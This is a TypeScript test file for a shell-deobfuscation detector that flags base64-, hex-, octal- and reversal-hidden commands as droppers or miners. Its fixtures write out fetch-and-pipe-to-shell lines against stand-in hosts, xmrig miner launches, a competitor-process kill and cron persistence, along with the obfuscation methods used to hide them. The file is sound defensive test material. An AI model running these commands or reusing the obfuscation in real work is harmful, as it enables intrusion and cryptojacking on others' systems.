import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { CoalEvent } from '../model/event.js';
import type { Signal } from '../model/signal.js';
import { createClassifier } from './index.js';
import { DEFAULT_RULE_DIRS } from './rules.js';
import { shellDecode, shellLayers } from './shell-decode.js';
import { loadRules } from './sigma/index.js';
import { evt, signalsOf, testIntel } from './test-events.js';

const b64 = (t: string) => Buffer.from(t).toString('base64');
const hex = (t: string) => Buffer.from(t).toString('hex');
const escaped = (t: string) => [...t].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
const octal = (t: string) => [...t].map((c) => `\\${c.charCodeAt(0).toString(8).padStart(3, '0')}`).join('');
const reversed = (t: string) => [...t].reverse().join('');

const decoded = (command: string) => shellLayers(command).slice(1);
const exec = (command_line: string) =>
  evt('exec', { process: { pid: 4100, name: 'bash', executable: '/usr/bin/bash', command_line } });

const classifyAll = createClassifier(testIntel(), await loadRules(DEFAULT_RULE_DIRS));
function all(event: CoalEvent): Signal[] {
  const out: Signal[] = [];
  classifyAll(event, out);
  return out;
}

test('each technique is decoded and named; a decoded script handed to a shell runs', () => {
  const script = 'curl -s http://203.0.113.9/x.sh | sh';
  const cases: Array<[string, string, boolean]> = [
    [`echo ${b64(script)} | base64 -d | bash`, 'base64-decoded shell', true],
    [`echo -n "${b64(script)}"|base64 --decode|sudo sh`, 'base64-decoded shell', true],
    [`bash -c "$(echo ${b64(script)} | base64 -d)"`, 'base64-decoded shell', true],
    [`eval $(printf '${b64(script)}' | /usr/bin/base64 -di)`, 'base64-decoded shell', true],
    [`base64 -d <<< '${b64(script)}' | sh`, 'base64-decoded shell', true],
    [`bash <(base64 --decode <<<${b64(script)})`, 'base64-decoded shell', true],
    [`echo ${hex(script)} | xxd -r -p | bash`, 'hex-decoded (xxd) shell', true],
    [`printf '${escaped(script)}' | sh`, 'hex/octal escapes shell', true],
    [`printf "${octal(script)}" | bash`, 'hex/octal escapes shell', true],
    [`echo -e '${escaped(script)}' | sh`, 'hex/octal escapes shell', true],
    [`echo '${reversed(script)}' | rev | sh`, 'reversed string shell', true],
    [`echo ${reversed('curl -s http://203.0.113.9/x.sh')} | rev | bash`, 'reversed string shell', true],
  ];
  for (const [command, technique, runs] of cases) {
    const layers = decoded(command);
    assert.equal(layers.length, 1, command);
    assert.equal(layers[0].technique, technique, command);
    assert.equal(layers[0].runs, runs, command);
    assert.match(layers[0].text, /^curl -s http:\/\/203\.0\.113\.9\/x\.sh/, command);
  }
});

test('decoding spliced into a command is put back in its place', () => {
  const cases: Array<[string, string, string]> = [
    [`$(echo 'lruc' | rev) -s http://203.0.113.9/a.sh | sh`, 'curl -s http://203.0.113.9/a.sh | sh', 'reversed string'],
    [
      `wget -qO- \`echo ${b64('http://203.0.113.9/a.sh')} | base64 -d\` | sh`,
      'wget -qO- http://203.0.113.9/a.sh | sh',
      'base64-decoded',
    ],
    [`$'${escaped('/tmp/.x/sshd')}' -B`, '/tmp/.x/sshd -B', 'hex/octal escapes'],
    [
      `$(echo 'tegw' | rev) http://x.example/$(echo ${b64('xmrig.tar.gz')} | base64 -d)`,
      'wget http://x.example/xmrig.tar.gz',
      'reversed string, base64-decoded',
    ],
  ];
  for (const [command, text, technique] of cases) {
    const layers = decoded(command);
    assert.equal(layers.length, 1, command);
    assert.deepEqual(
      [layers[0].text, layers[0].technique, layers[0].inline, layers[0].runs],
      [text, technique, true, false],
    );
  }
});

test('layers nest: base64 inside base64, reversal inside base64, escapes inside hex; at most four deep', () => {
  const inner = './xmrig -o pool.example:3333';
  const twice = `echo ${b64(`echo ${b64(inner)} | base64 -d | sh`)} | base64 -d | bash`;
  assert.deepEqual(
    decoded(twice).map((l) => [l.depth, l.technique, l.runs]),
    [
      [1, 'base64-decoded shell', true],
      [2, 'base64-decoded shell', true],
    ],
  );
  assert.equal(decoded(twice)[1].text, inner);
  const mixed = `echo ${b64(`echo '${reversed(inner)}' | rev | sh`)} | base64 -d | sh`;
  assert.deepEqual(
    decoded(mixed).map((l) => l.technique),
    ['base64-decoded shell', 'reversed string shell'],
  );
  const hexEsc = `echo ${hex(`printf '${escaped(inner)}' | sh`)} | xxd -r -p | sh`;
  assert.equal(decoded(hexEsc).at(-1)?.text, inner);
  let deep = inner;
  for (let i = 0; i < 6; i++) deep = `echo ${b64(deep)} | base64 -d | sh`;
  const layers = decoded(deep);
  assert.equal(layers.length, 4);
  assert.ok(layers.every((l) => l.depth <= 4));
});

test('text that only decodes to print, binary, colour codes and ordinary pipes are nothing', () => {
  for (const command of [
    `echo ${b64('hello world, how are you')} | base64 -d`,
    `echo ${b64('hello world, how are you')} | base64 --decode > /tmp/greeting.txt`,
    'echo abcdef | rev',
    "printf '\\033[1m\\033[31merror\\033[0m\\033[0m\\n'",
    'grep -v foo /etc/hosts | sort | uniq -c',
    'echo $PATH | tr : "\\n"',
  ])
    assert.deepEqual(signalsOf(shellDecode, exec(command)), [], command);
  // random bytes are not a layer
  const binary = Buffer.from(Array.from({ length: 64 }, (_, i) => (i * 37 + 11) % 256)).toString('base64');
  assert.deepEqual(decoded(`echo ${binary} | base64 -d | sh`), []);
  // the printed text is still read, just not evidence
  assert.equal(decoded(`echo ${b64('hello world, how are you')} | base64 -d`)[0]?.runs, false);
});

test('a decoded script handed to a shell is a strong dropper; a spliced command is obfuscation', () => {
  const run = signalsOf(shellDecode, exec(`echo ${b64('modprobe msr; ./xmrig')} | base64 -d | bash`));
  assert.deepEqual(
    run.map((s) => [s.kind, s.strength, s.by]),
    [['dropper', 'strong', 'shell:decoded-script']],
  );
  assert.match(
    run[0].explanation,
    /bash \(pid 4100\) runs a script hidden by base64-decoded shell; decoded: modprobe msr; \.\/xmrig/,
  );
  const spliced = signalsOf(shellDecode, exec(`$(echo 'lruc' | rev) -o /tmp/a http://203.0.113.9/a`));
  assert.deepEqual(
    spliced.map((s) => [s.kind, s.strength]),
    [['obfuscation', 'medium']],
  );
  assert.match(spliced[0].explanation, /hidden by reversed string; decoded: curl -o \/tmp\/a/);
  const cron = signalsOf(
    shellDecode,
    evt('persistence-entry', {
      process: { command_line: `echo ${b64('/tmp/.x/run')} | base64 -d | sh` },
      coalmine: { ts: 0, format: 'crontab', ref: { file: 'redis', line: 1 }, persistence: { mechanism: 'cron' } },
    }),
  );
  assert.equal(cron[0]?.by, 'shell:decoded-script');
  assert.match(
    cron[0]?.explanation ?? '',
    /^the cron entry runs a script hidden by base64-decoded shell; decoded: \/tmp\/\.x\/run/,
  );
});

test('the decoded script is read by the process and kill classifiers and the rules, command by command', () => {
  const script = 'modprobe msr; pkill -9 kdevtmpfsi; cd /tmp; nohup ./xmrig -o pool.example:3333 -B';
  const out = all(exec(`/bin/bash -c "echo ${b64(script)} | base64 -d | bash"`));
  const by = new Map(out.map((s) => [s.by, s]));
  assert.equal(by.get('shell:decoded-script')?.kind, 'dropper');
  assert.equal(by.get('rule:lnx-miner-tuning')?.kind, 'miner-tuning');
  const miner = by.get('process:miner-name');
  assert.equal(miner?.strength, 'strong');
  assert.match(
    miner?.explanation ?? '',
    /^in the command decoded from base64-decoded shell: bash \(pid 4100\): argv\[0\] \.\/xmrig is a known miner/,
  );
  assert.equal(miner?.subject?.executable, '/usr/bin/bash');
  const kill = out.find((s) => s.kind === 'competitor-kill');
  assert.equal(kill?.subject?.victim, 'kdevtmpfsi');
  assert.match(kill?.explanation ?? '', /^in the command decoded from base64-decoded shell: /);
  const reversedMiner = all(exec(`sh -c "$(echo '${reversed('./xmrig -o pool.example:3333')}' | rev)"`));
  assert.ok(reversedMiner.some((s) => s.by === 'process:miner-name' && /reversed string shell/.test(s.explanation)));
});

test('hostile input stays bounded and fast', () => {
  const started = performance.now();
  for (const command of [
    `echo ${'A'.repeat(1_000_000)} | base64 -d | sh`,
    `${'echo '.repeat(20_000)}| rev`,
    `printf '${'\\x41'.repeat(100_000)}`,
    `$'${'\\'.repeat(100_000)}`,
    `${"printf '".repeat(10_000)}`,
    `echo ${'0'.repeat(500_000)} | xxd -r -p | sh`,
    `${'$(echo a | rev)'.repeat(5_000)}`,
  ]) {
    const layers = shellLayers(command);
    assert.ok(layers.length <= 8, command.slice(0, 40));
    assert.ok(
      layers.every((l) => l.text.length <= 8192),
      command.slice(0, 40),
    );
    signalsOf(shellDecode, exec(command));
  }
  assert.ok(performance.now() - started < 2000, `took ${performance.now() - started} ms`);
});
